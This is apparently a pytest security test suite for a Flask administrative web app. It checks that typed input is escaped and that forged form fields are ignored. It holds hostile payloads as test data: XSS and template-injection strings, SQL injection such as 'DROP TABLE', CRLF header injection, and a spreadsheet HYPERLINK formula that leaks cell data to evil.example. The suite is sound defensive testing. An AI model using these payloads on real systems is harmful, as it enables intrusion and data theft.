"""What people type is text: printed as text, stored as text, and it writes only the fields it was asked for."""

from __future__ import annotations

import csv
import json
import re
from io import BytesIO
from zipfile import ZipFile

import openpyxl
import pytest
from flask import Flask
from sqlalchemy import select

from app.foundation import access, audit, clock
from app.foundation.database import db, transaction
from app.foundation.signing.models import SignInRecord
from app.foundation.tenancy.models import Person, Unit
from app.plugins.aggregates import queries as aggregates
from app.plugins.aggregates import seen
from app.plugins.aggregates import service as versions
from app.plugins.campaigns.text import render
from app.plugins.exchange.models import ExchangeEntry
from app.plugins.surveys.models import SurveySheet
from app.plugins.surveys.place import Wanted, find
from tests.security.test_concurrency import FILLED, fields, read, wuling_unit
from tests.services.instance import SignIn

NASTY = """"><script>alert(1)</script><img src=x onerror=alert(1)>'{{7*7}}${7*7}#{7*7}%(x)s{0}👻ねこO'Hara"""


@pytest.fixture
def nasty(app: Flask) -> int:
    key = wuling_unit()
    with access.acting_as(access.system("tests", over="0.")), transaction() as session:
        unit = session.get(Unit, key)
        assert unit is not None
        unit.name, unit.short_name, unit.address = NASTY, NASTY[:60], NASTY
    return key


def pages(sign_in: SignIn, key: int) -> str:
    client = sign_in("wuling.clerk")
    paths = (
        "/units/list/",
        f"/units/show/{key}",
        f"/units/edit/{key}",
        "/units/list/?_flt_2_name=%3Cscript%3E",
    )
    return "".join(client.get(path).text for path in paths)


def test_what_was_typed_is_printed_as_text(nasty: int, sign_in: SignIn) -> None:
    said = pages(sign_in, nasty)
    assert "&lt;script&gt;alert(1)" in said
    assert "<script>alert(1)" not in said
    assert "<img src=x" not in said
    assert "👻ねこ" in said
    row = sign_in("wuling.clerk").get(f"/api/v1/units/{nasty}")
    assert row.get_json()["result"]["name"] == NASTY
    assert row.mimetype == "application/json"


def test_typed_templates_are_printed_not_run(nasty: int, sign_in: SignIn) -> None:
    said = pages(sign_in, nasty)
    assert "{{7*7}}" in said
    assert "%(x)s{0}" in said
    assert not re.search(r"49\$?\{?#?49", said)


def test_a_query_is_printed_as_text(sign_in: SignIn) -> None:
    client = sign_in("wuling.clerk")
    for path in ("/units/list/", "/applications/list/", "/badge/", "/login/", "/nowhere"):
        page = client.get(
            path, query_string={"q": NASTY, "next": NASTY, "_flt_2_name": NASTY, "page": "<b>"}
        ).text
        assert "<script>alert(1)" not in page, path
        assert "<img src=x" not in page, path


def test_fields_the_form_does_not_show_are_not_written(app: Flask, sign_in: SignIn) -> None:
    key, client = wuling_unit(), sign_in("wuling.clerk")
    before = read(lambda: db.session.get(Unit, key))
    assert before is not None
    kept = {
        name: getattr(before, name) for name in ("id", "account", "review_path", "filing_path", "city_id")
    }
    forged = {
        "id": "1", "account": "99999999", "review_path": "0.", "filing_path": "0.", "city_id": "1", "county_id": "1",
        "province_id": "1", "created_at": "1999-01-01", "is_admin": "1", "__class__": "x", "_sa_instance_state": "x",
    }  # fmt: skip
    typed = {**fields(client.get(f"/units/edit/{key}").text, 'id="model_form"'), **FILLED, **forged}
    assert client.post(f"/units/edit/{key}", data=typed).status_code == 302
    after = read(lambda: db.session.get(Unit, key, populate_existing=True))
    assert after is not None
    assert after.address == FILLED["address"]
    assert {name: getattr(after, name) for name in kept} == kept


def test_a_doubled_or_misplaced_parameter_changes_nothing(app: Flask, sign_in: SignIn) -> None:
    key, client = wuling_unit(), sign_in("wuling.clerk")
    typed = {**fields(client.get(f"/units/edit/{key}").text, 'id="model_form"'), **FILLED}
    typed.pop("address")
    answer = client.post(f"/units/edit/{key}", data=typed, query_string={"address": "在网址里"})
    assert answer.status_code in {302, 422}
    unit = read(lambda: db.session.get(Unit, key, populate_existing=True))
    assert unit is not None
    assert unit.address != "在网址里", "a form is read from the body alone"
    typed["version"] = str(unit.version)
    doubled = {**typed, "address": ["第一个", "第二个"]}
    assert client.post(f"/units/edit/{key}", data=doubled).status_code == 302
    unit = read(lambda: db.session.get(Unit, key, populate_existing=True))
    assert unit is not None
    assert unit.address == "第一个"
    answer = client.get("/api/v1/units/", query_string=[("q", "(page_size:1)"), ("q", "(page_size:100)")])
    assert len(answer.get_json()["result"]) == 1


def test_sql_in_a_field_or_a_filter_is_text(app: Flask, sign_in: SignIn) -> None:
    client = sign_in("wuling.clerk")
    everything = client.get("/api/v1/units/", query_string={"q": "(page_size:100)"}).get_json()["count"]
    for text in ("' OR '1'='1", "'; DROP TABLE unit; --", "%' OR 1=1 --", "\\' OR 1=1 --", "%", "_"):
        q = json.dumps({"filters": [{"col": "name", "opr": "ct", "value": text}]})
        answer = client.get("/api/v1/units/", query_string={"q": q})
        assert answer.status_code == 200
        assert answer.get_json()["count"] == 0, text
        assert client.get("/units/list/", query_string={"_flt_2_name": text}).status_code == 200
    assert (
        client.get("/api/v1/units/", query_string={"q": "(page_size:100)"}).get_json()["count"] == everything
    )
    for column in ("name; DROP TABLE unit", "(select 1)", "name,id", "1"):
        answer = client.get(
            "/api/v1/units/", query_string={"q": f"(order_column:'{column}',order_direction:asc)"}
        )
        assert answer.status_code == 400, column


def test_markdown_makes_no_script_and_no_foreign_picture() -> None:
    made = render(
        "# 标题\n\n<script>alert(1)</script>\n\n<b onclick=x>粗</b>\n\n[点](javascript:alert(1)) "
        "[点](data:text/html,x) [点](vbscript:x)\n\n![图](https://evil.example/x.png)\n\n|a|b|\n|-|-|\n|1|2|"
    )
    assert "<script" not in made
    assert "<b " not in made
    assert "<img" not in made
    assert not re.search(r'href="(javascript|data|vbscript)', made)
    assert "<table" in made


def test_line_ends_in_a_name_or_address_reach_no_header(app: Flask, sign_in: SignIn) -> None:
    client = sign_in("wuling.clerk")
    for text in ("x\r\nSet-Cookie: a=b", "x\nLocation: //evil.example", "x%0d%0aSet-Cookie:%20a=b"):
        for path in ("/units/list/", "/login/", "/badge/"):
            answer = client.get(path, query_string={"q": text, "next": text, "_flt_2_name": text})
            assert "a=b" not in str(answer.headers.getlist("Set-Cookie")), path
            assert "evil" not in answer.headers.get("Location", ""), path


CALCULATES = """=HYPERLINK("http://evil.example?x="&A1,"点")"""
# Each address that gives a table away, who asks for it, and whether people's own words stand in it.
EXPORTS = {
    "/sign-ins/export/xlsx": ("changde.inspector", True),
    "/sign-ins/export/csv": ("changde.inspector", True),
    "/deeds/export/xlsx": ("changde.inspector", True),
    "/deeds/export/csv": ("changde.inspector", True),
    "/aggregate/export.xlsx": ("changde.clerk", True),
    "/aggregate/versions/<int:pk>/export.xlsx": ("changde.clerk", True),
    "/imports/template.xlsx": ("changde.clerk", False),
    "/permits/matrix/export.xlsx": ("changde.inspector", False),
    "/permits/matrix/export.csv": ("changde.inspector", False),
    "/portal/passed.csv": ("changde.inspector", False),
    "/exchange/export.csv": ("changde.clerk", True),
}


@pytest.fixture
def calculating(app: Flask) -> None:
    """Words that would calculate in whatever is exported: a sheet's, an envelope's, the sign-in log's and the record's."""
    with access.acting_as(access.system(CALCULATES, over="0.")) as actor, transaction() as session:
        mine = select(SurveySheet).where(
            SurveySheet.review_path == "0.43.07.", SurveySheet.state == "accepted"
        )
        sheet = session.scalars(mine.order_by(SurveySheet.id)).first()
        person = session.scalars(select(Person).where(Person.username == "changde.clerk")).one()
        assert sheet is not None
        sheet.unit_name = sheet.address = CALCULATES
        entry = session.scalars(
            select(ExchangeEntry).where(ExchangeEntry.review_path == "0.43.07.").order_by(ExchangeEntry.id)
        ).first()
        assert entry is not None
        entry.note = CALCULATES
        session.add(
            SignInRecord(
                at=clock.wall(), outcome="wrong_password", person_id=person.id, username=CALCULATES, name=CALCULATES,
                agent=CALCULATES, address=CALCULATES[:45],
            )
        )  # fmt: skip
        audit.record(actor, "person.unlocked", person, reason=CALCULATES)


def locked(username: str) -> int:
    """A version of the office's aggregate, with what is in at this moment."""
    with access.acting_as(access.actor_for(username)) as actor:
        with transaction():
            key = versions.prepare(find(actor, Wanted()), actor=actor).id
        with transaction():
            row = aggregates.get(key, actor)
            versions.lock(row, seen.place_of(row, actor), "更正", actor=actor)
    return key


def test_every_address_that_gives_a_table_away_is_opened_below(app: Flask) -> None:
    rules = [
        rule
        for rule in app.url_map.iter_rules()
        if "GET" in (rule.methods or ()) and re.search(r"export|\.(csv|xlsx)$", rule.rule)
    ]
    assert {rule.rule.replace("<kind>", kind) for rule in rules for kind in ("xlsx", "csv")} == set(EXPORTS)


@pytest.mark.parametrize("address", EXPORTS)
def test_a_text_that_would_calculate_is_text_in_every_export(
    calculating: None, sign_in: SignIn, address: str
) -> None:
    username, typed = EXPORTS[address]
    if "<int:pk>" in address:
        address = address.replace("<int:pk>", str(locked(username)))
    answer = sign_in(username).get(address)
    assert answer.status_code == 200
    cells = _in_workbook(answer.data) if address.endswith("xlsx") else _in_table(answer.data)
    assert len(cells) > 10
    assert (CALCULATES in cells) is typed


def _in_workbook(content: bytes) -> list[str]:
    """Every cell of every sheet as it stands; none is a formula or a link."""
    book = openpyxl.load_workbook(BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink is not None]
    with ZipFile(BytesIO(content)) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/")]
    assert sheets
    assert not any(b"<f>" in one or b"<f " in one or b"<hyperlink" in one for one in sheets)
    return [str(cell.value) for cell in cells]


def _in_table(content: bytes) -> list[str]:
    """Every cell without the mark that makes it text; none begins like something to calculate."""
    cells = [cell for row in csv.reader(content.decode("utf-8-sig").splitlines()) for cell in row]
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "|"))]
    return [cell.removeprefix("'") for cell in cells]


@pytest.mark.parametrize("address", ["http://[", "//[", "http://[x]/"])
def test_an_address_that_is_none_breaks_no_page(sign_in: SignIn, address: str) -> None:
    client = sign_in("wuling.clerk")
    assert client.get("/no/such/page", headers={"Referer": address}).status_code == 404
    assert client.get("/login/", query_string={"next": address}).headers["Location"] == "/"
